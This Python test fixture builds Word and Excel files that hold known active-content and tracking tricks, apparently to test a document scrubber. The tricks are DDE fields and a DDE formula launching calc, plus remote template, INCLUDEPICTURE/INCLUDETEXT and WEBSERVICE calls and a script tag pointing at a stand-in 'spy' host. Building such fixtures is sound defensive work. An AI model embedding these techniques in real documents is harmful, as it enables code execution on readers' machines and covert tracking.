"""Office documents made by hand, so that each part that should go is surely there."""

import zipfile
from io import BytesIO

from tests.evidence.pictured import picture

MAKER, BOSS, SAID = "Nomin Archive", "Zaya Chief", "The registrar asked for money"
HOME = "http://spy.example.mn"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_R = f'xmlns:r="{_OFFICE}"'
_W = f'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" {_R}'
_S = f'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" {_R}'
_TYPE = "application/vnd.openxmlformats-officedocument."
_CORE = (
    '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
    f'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>{MAKER}</dc:creator></cp:coreProperties>'
)


def packed(parts: dict[str, str | bytes], **how: int) -> bytes:
    content = BytesIO()
    with zipfile.ZipFile(content, "w", how.get("compression", zipfile.ZIP_DEFLATED)) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return content.getvalue()


def relations(**leads: tuple[str, str]) -> str:
    """`id=(last word of the type, target)`; a target with :// lies outside."""
    lines = "".join(
        f'<Relationship Id="{key}" Type="{_OFFICE}/{what}" Target="{target}"'
        + (' TargetMode="External"/>' if ":" in target else "/>")
        for key, (what, target) in leads.items()
    )
    return (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{lines}</Relationships>'
    )


def types(**parts: str) -> str:
    """`{name: type}` of parts, beside the usual extensions."""
    usual = {"rels": "application/vnd.openxmlformats-package.relationships+xml", "xml": "application/xml"}
    usual |= {"png": "image/png", "jpeg": "image/jpeg", "svg": "image/svg+xml", "bin": f"{_TYPE}oleObject"}
    lines = "".join(f'<Default Extension="{end}" ContentType="{what}"/>' for end, what in usual.items())
    lines += "".join(f'<Override PartName="/{name}" ContentType="{what}"/>' for name, what in parts.items())
    return f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{lines}</Types>'


def _field(order: str) -> str:
    """In two runs, as an attacker would split the word."""
    runs = "".join(f"<w:r><w:instrText>{half}</w:instrText></w:r>" for half in (order[:2], order[2:]))
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    begin, separate, end = (mark.format(kind) for kind in ("begin", "separate", "end"))
    return f"<w:p>{begin}{runs}{separate}<w:r><w:t>shown</w:t></w:r>{end}</w:p>"


_LETTER = (
    f'<w:document {_W} xmlns:o="urn:schemas-microsoft-com:office:office"><w:body>'
    f'<w:p w:rsidR="00AB12CD"><w:r><w:t>{SAID}</w:t></w:r></w:p>'
    f'<w:p><w:ins w:id="1" w:author="{MAKER}" w:date="2026-03-02T09:00:00Z"><w:r><w:t>added</w:t></w:r></w:ins>'
    f'<w:del w:id="2" w:author="{BOSS}" w:date="2026-03-02T09:00:00Z"><w:r/></w:del></w:p>'
    '<w:p><w:hyperlink r:id="rLink"><w:r><w:t>the law</w:t></w:r></w:hyperlink>'
    '<w:hyperlink r:id="rDisk"><w:r><w:t>a draft</w:t></w:r></w:hyperlink></w:p>'
    '<w:p><w:r><w:object><o:OLEObject ProgID="Package" r:id="rOle"/></w:object></w:r></w:p>'
    '<w:altChunk r:id="rChunk"/>'
    f"{_field('DDEAUTO cmd calc')}{_field(f'INCLUDEPICTURE {HOME}/pixel')}{_field('PAGE')}"
    f'<w:p><w:fldSimple w:instr="INCLUDETEXT {HOME}"/></w:p></w:body></w:document>'
)


def word_parts() -> dict[str, str | bytes]:
    return {
        "[Content_Types].xml": types(
            **{
                "word/document.xml": f"{_TYPE}wordprocessingml.document.main+xml",
                "word/comments.xml": f"{_TYPE}wordprocessingml.comments+xml",
                "word/settings.xml": f"{_TYPE}wordprocessingml.settings+xml",
                "docProps/core.xml": "application/vnd.openxmlformats-package.core-properties+xml",
            }
        ),
        "_rels/.rels": relations(a=("officeDocument", "word/document.xml"), b=("core-properties", "docProps/core.xml")),
        "docProps/core.xml": _CORE,
        "word/document.xml": _LETTER,
        "word/_rels/document.xml.rels": relations(
            rLink=("hyperlink", "https://citizen.example.mn/law"),
            rDisk=("hyperlink", "file:///c:/users/zaya/draft.docx"),
            rOle=("oleObject", "embeddings/object1.bin"),
            rChunk=("aFChunk", "chunk.html"),
            rPhoto=("image", "media/image1.jpeg"),
            rDrawn=("image", "media/drawn.svg"),
            rComments=("comments", "comments.xml"),
            rSettings=("settings", "settings.xml"),
            rXml=("customXml", "../customXml/item1.xml"),
        ),
        "word/comments.xml": f'<w:comments {_W}><w:comment w:id="0" w:author="{MAKER}" w:initials="NA">'
        "<w:p><w:r><w:t>see page two</w:t></w:r></w:p></w:comment></w:comments>",
        "word/settings.xml": f'<w:settings {_W}><w:attachedTemplate r:id="rFar"/><w:rsids><w:rsid w:val="00AB12CD"/>'
        "</w:rsids></w:settings>",
        "word/_rels/settings.xml.rels": relations(rFar=("attachedTemplate", f"{HOME}/t.dotm")),
        "word/media/image1.jpeg": picture("JPEG"),
        "word/media/drawn.svg": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{HOME}/s"/></svg>',
        "word/embeddings/object1.bin": b"\xd0\xcf\x11\xe0" + MAKER.encode(),
        "word/chunk.html": f"<script src='{HOME}'></script>",
        "customXml/item1.xml": f"<who>{MAKER}</who>",
        "stowaway/notes.xml": f"<who>{MAKER}</who>",
    }


_HERE = "http://schemas.microsoft.com/office/spreadsheetml/2010/11/ac"
_PATH = f'<x15ac:absPath xmlns:x15ac="{_HERE}" url="D:\\papers\\zaya\\"/>'
_CELLS = (
    f'<c r="A1" t="inlineStr"><is><t>{SAID}</t></is></c><c r="B1"><f>SUM(C1,2)</f><v>7</v></c>'
    '<c r="C1"><v>5</v></c>'
    f'<c r="D1"><f>[1]Sheet1!A1</f><v>3</v></c><c r="E1"><f>WEBSERVICE("{HOME}")</f><v>1</v></c>'
    "<c r=\"F1\"><f>cmd|'/C calc'!A0</f><v>2</v></c>"
)


def sheet_parts() -> dict[str, str | bytes]:
    return {
        "[Content_Types].xml": types(
            **{
                "xl/workbook.xml": f"{_TYPE}spreadsheetml.sheet.main+xml",
                "xl/worksheets/sheet1.xml": f"{_TYPE}spreadsheetml.worksheet+xml",
                "xl/externalLinks/externalLink1.xml": f"{_TYPE}spreadsheetml.externalLink+xml",
                "xl/comments1.xml": f"{_TYPE}spreadsheetml.comments+xml",
                "xl/connections.xml": f"{_TYPE}spreadsheetml.connections+xml",
                "docProps/core.xml": "application/vnd.openxmlformats-package.core-properties+xml",
            }
        ),
        "_rels/.rels": relations(a=("officeDocument", "xl/workbook.xml"), b=("core-properties", "docProps/core.xml")),
        "docProps/core.xml": _CORE,
        "xl/workbook.xml": f'<workbook {_S}><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/'
        f'markup-compatibility/2006"><mc:Choice Requires="x15">{_PATH}</mc:Choice></mc:AlternateContent>'
        '<sheets><sheet name="Fees" sheetId="1" r:id="r1"/></sheets>'
        '<externalReferences><externalReference r:id="r2"/></externalReferences></workbook>',
        "xl/_rels/workbook.xml.rels": relations(
            r1=("worksheet", "worksheets/sheet1.xml"),
            r2=("externalLink", "externalLinks/externalLink1.xml"),
            r3=("connections", "connections.xml"),
        ),
        "xl/worksheets/sheet1.xml": f'<worksheet {_S}><sheetData><row r="1">{_CELLS}</row></sheetData>'
        '<pageSetup orientation="portrait" r:id="rPrinter"/></worksheet>',
        "xl/worksheets/_rels/sheet1.xml.rels": relations(
            rPrinter=("printerSettings", "../printerSettings/p.bin"), rNotes=("comments", "/xl/comments1.xml")
        ),
        "xl/printerSettings/p.bin": MAKER.encode("utf-16-le"),
        "xl/comments1.xml": f'<comments {_S}><authors><author>{MAKER}</author></authors><commentList><comment ref="A1" '
        'authorId="0"><text><t>counted twice</t></text></comment></commentList></comments>',
        "xl/connections.xml": f'<connections {_S}><connection id="1" sourceFile="{HOME}"/></connections>',
        "xl/externalLinks/externalLink1.xml": f"<externalLink {_S}/>",
        "xl/externalLinks/_rels/externalLink1.xml.rels": relations(r1=("externalLinkPath", f"{HOME}/book.xlsx")),
    }
